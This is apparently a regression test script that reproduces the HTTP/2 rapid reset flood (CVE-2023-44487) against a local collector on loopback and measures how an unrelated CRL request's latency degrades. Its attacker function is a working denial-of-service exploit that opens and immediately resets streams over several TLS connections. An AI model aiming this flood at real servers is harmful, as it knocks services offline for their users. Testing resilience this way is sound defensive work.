#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 rapid reset (CVE-2023-44487) against a collector on loopback, and
what it does to an unrelated request.

CONNS attacker processes each open one TLS connection (ALPN h2, with the
python3-h2 state machine, which nobody here wrote) and, for SECONDS, send
HEADERS for PATH immediately followed by RST_STREAM, as fast as the socket
takes them. Meanwhile a probe process times an unrelated request every
50 ms: a new TLS connection, GET /v1/crl over HTTP/1.1 (what any relying
party fetches). The probe runs for one second before the burst, through it,
and one second after. Prints the probe's latencies before and during the
burst, and how many streams the attackers opened.

Usage: rapid_reset.py PORT CA_FILE [PATH] [SECONDS] [CONNS]
Only ever aimed at 127.0.0.1.
"""
import multiprocessing
import socket
import ssl
import statistics
import sys
import time

import h2.config
import h2.connection
import h2.exceptions


def tls_context(ca, alpn):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(alpn)
    return ctx


def attacker(port, ca, path, seconds, counter):
    ctx = tls_context(ca, ["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)),
                           server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    headers = [(":method", "GET"), (":path", path), (":scheme", "https"),
               (":authority", "localhost")]
    sent = 0
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                sent += 1
            data = conn.data_to_send()
            view = memoryview(data)
            while view:
                try:
                    n = sock.send(view)
                    view = view[n:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    time.sleep(0.0005)
                except ssl.SSLWantReadError:
                    time.sleep(0.0005)
            try:
                incoming = sock.recv(65536)
                if not incoming:
                    break
                conn.receive_data(incoming)
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server closed the connection: that is an answer too
    with counter.get_lock():
        counter.value += sent
    sock.close()


def probe(port, ca, seconds, out):
    ctx = tls_context(ca, ["http/1.1"])
    request = b"GET /v1/crl HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        try:
            with ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=30),
                                 server_hostname="localhost") as s:
                s.sendall(request)
                answer = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    answer += chunk
            ok = answer.startswith(b"HTTP/1.1 200")
        except OSError:
            ok = False
        out.put((began, time.monotonic() - began, ok))
        time.sleep(0.05)
    out.put(None)


def main():
    port = int(sys.argv[1])
    ca = sys.argv[2]
    path = sys.argv[3] if len(sys.argv) > 3 else "/metrics"
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
    conns = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    samples = multiprocessing.Queue()
    counter = multiprocessing.Value("l", 0)
    p = multiprocessing.Process(target=probe, args=(port, ca, seconds + 2, samples))
    p.start()
    time.sleep(1)
    burst_from = time.monotonic()
    attackers = [multiprocessing.Process(target=attacker,
                                         args=(port, ca, path, seconds, counter))
                 for _ in range(conns)]
    for a in attackers:
        a.start()
    for a in attackers:
        a.join()
    burst_to = time.monotonic()
    rows = []
    while True:
        row = samples.get()
        if row is None:
            break
        rows.append(row)
    p.join()
    before = [t for (at, t, ok) in rows if at + t < burst_from]
    during = [t for (at, t, ok) in rows if at < burst_to and at + t >= burst_from]
    failed = sum(1 for (_, _, ok) in rows if not ok)
    print("rapid reset on %s: %d connections, %.1f s, %d streams opened and reset"
          % (path, conns, burst_to - burst_from, counter.value))
    if before:
        print("unrelated GET /v1/crl before: median %.1f ms, max %.1f ms (%d)"
              % (statistics.median(before) * 1000, max(before) * 1000, len(before)))
    if during:
        print("unrelated GET /v1/crl during: median %.1f ms, max %.1f ms (%d)"
              % (statistics.median(during) * 1000, max(during) * 1000, len(during)))
    print("probe requests failed: %d" % failed)
    return 0 if during and max(during) < 0.5 and failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
